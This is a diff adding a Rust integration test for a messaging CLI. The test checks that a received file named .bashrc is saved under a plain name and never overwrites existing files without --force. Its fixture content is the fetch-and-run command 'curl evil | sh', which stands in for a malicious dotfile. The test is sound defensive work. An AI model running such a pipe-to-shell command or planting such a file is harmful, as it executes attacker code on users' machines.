@@ -654,3 +654,62 @@ async fn membership_admin_audit_stdin_and_refusals() {
     let out = e.run("bob", &["history", "later"], &[]).await;
     assert_eq!(out.status.code(), Some(0), "{out:?}");
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn download_never_writes_where_the_sender_chose_nor_over_a_file() {
+    let (e, _stack) = start().await;
+    for who in ["alice", "bob"] {
+        e.ok_with(
+            who,
+            &["signup", who],
+            &[("TESSERA_PASSWORD", &format!("{who}-password-1"))],
+        )
+        .await;
+    }
+    e.ok("alice", &["channel", "create", "files", "--members", "bob"])
+        .await;
+    // The sender's file is called .bashrc.
+    let outbox = e.dir.path().join("outbox");
+    std::fs::create_dir_all(&outbox).unwrap();
+    std::fs::write(outbox.join(".bashrc"), b"curl evil | sh").unwrap();
+    e.ok(
+        "alice",
+        &[
+            "send-file",
+            "files",
+            outbox.join(".bashrc").to_str().unwrap(),
+        ],
+    )
+    .await;
+    let listed = e.ok("bob", &["history", "files"]).await;
+    assert!(listed.contains("[file bashrc "), "{listed}");
+
+    // Bob's working directory (the CLI runs in e.dir) gets a plain name.
+    let dotfile = e.dir.path().join(".bashrc");
+    let saved = e.dir.path().join("bashrc");
+    assert!(
+        e.ok("bob", &["download", "files", "1"])
+            .await
+            .contains("saved bashrc")
+    );
+    assert!(!dotfile.exists(), "never the sender's dotfile");
+    assert_eq!(std::fs::read(&saved).unwrap(), b"curl evil | sh");
+
+    // An existing file is never replaced without --force, -o or not.
+    std::fs::write(&saved, b"mine").unwrap();
+    let err = e.fails("bob", &["download", "files", "1"], 2, &[]).await;
+    assert!(err.contains("exists") && err.contains("--force"), "{err}");
+    let elsewhere = e.dir.path().join("kept.txt");
+    std::fs::write(&elsewhere, b"also mine").unwrap();
+    e.fails(
+        "bob",
+        &["download", "files", "1", "-o", elsewhere.to_str().unwrap()],
+        2,
+        &[],
+    )
+    .await;
+    assert_eq!(std::fs::read(&saved).unwrap(), b"mine");
+    assert_eq!(std::fs::read(&elsewhere).unwrap(), b"also mine");
+    e.ok("bob", &["download", "files", "1", "--force"]).await;
+    assert_eq!(std::fs::read(&saved).unwrap(), b"curl evil | sh");
+}
